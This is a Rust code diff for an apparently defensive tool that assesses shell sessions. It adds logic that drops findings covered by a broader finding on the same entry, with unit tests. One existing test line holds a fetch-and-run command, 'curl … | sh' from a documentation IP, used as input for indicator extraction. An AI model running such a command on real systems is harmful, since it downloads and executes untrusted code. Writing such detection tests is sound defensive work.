@@ -152,7 +152,8 @@ pub fn assess(session: &Session, timeline: &[TimelineEntry]) -> Assessment {
             if finding.risk_level >= RiskLevel::High {
                 tactics_high.insert(tactic.clone());
             }
-            if seen_rules.insert(finding.rule_id.clone()) {
+            let covered = is_covered(finding, &entry.findings);
+            if !covered && seen_rules.insert(finding.rule_id.clone()) {
                 assessment.risk_score_reasons.push(RiskScoreReason {
                     reason: finding.title.clone(),
                     score_impact: base_score(finding.risk_level),
@@ -207,6 +208,22 @@ pub fn assess(session: &Session, timeline: &[TimelineEntry]) -> Assessment {
 
     describe(session, timeline, &tactics_medium, &mut assessment);
     assessment
+}
+
+/// True when another finding on the same entry says at least as much: equal or higher risk,
+/// same threat category, and every technique of this one. Such findings stay on the entry (the
+/// evidence is complete) but are not repeated in the session's activities and reasons.
+fn is_covered(finding: &Finding, all: &[Finding]) -> bool {
+    all.iter().any(|other| {
+        other.rule_id != finding.rule_id
+            && other.threat_category == finding.threat_category
+            && finding.mitre_attack_ids.iter().all(|id| other.mitre_attack_ids.contains(id))
+            && (other.risk_level > finding.risk_level
+                || other.risk_level == finding.risk_level
+                    && (other.mitre_attack_ids.len() > finding.mitre_attack_ids.len()
+                        || other.mitre_attack_ids.len() == finding.mitre_attack_ids.len()
+                            && other.rule_id < finding.rule_id))
+    })
 }
 
 fn first_line(text: &str, limit: usize) -> String {
@@ -300,6 +317,31 @@ mod tests {
         assert_eq!(indicators("curl -s http://203.0.113.7/x.sh | sh"), vec!["http://203.0.113.7/x.sh"]);
         assert_eq!(indicators("ssh root@10.0.4.12"), vec!["10.0.4.12"]);
         assert!(indicators("ls -la").is_empty());
+    }
+
+    fn finding(rule: &str, risk: RiskLevel, ids: &[&str]) -> Finding {
+        Finding {
+            rule_id: rule.to_string(),
+            risk_level: risk,
+            mitre_attack_ids: ids.iter().map(|id| id.to_string()).collect(),
+            threat_category: ThreatCategory::Execution,
+            ..Finding::default()
+        }
+    }
+
+    #[test]
+    fn a_finding_said_better_elsewhere_is_covered() {
+        let broad = finding("a.broad", RiskLevel::High, &["T1059.004", "T1105"]);
+        let narrow = finding("b.narrow", RiskLevel::Medium, &["T1105"]);
+        let other = finding("c.other", RiskLevel::High, &["T1003.008"]);
+        let all = vec![broad.clone(), narrow.clone(), other.clone()];
+        assert!(is_covered(&narrow, &all));
+        assert!(!is_covered(&broad, &all));
+        assert!(!is_covered(&other, &all));
+        // Of two identical findings exactly one is kept.
+        let twin = finding("d.twin", RiskLevel::High, &["T1059.004", "T1105"]);
+        let pair = vec![broad.clone(), twin.clone()];
+        assert_ne!(is_covered(&broad, &pair), is_covered(&twin, &pair));
     }
 
     #[test]
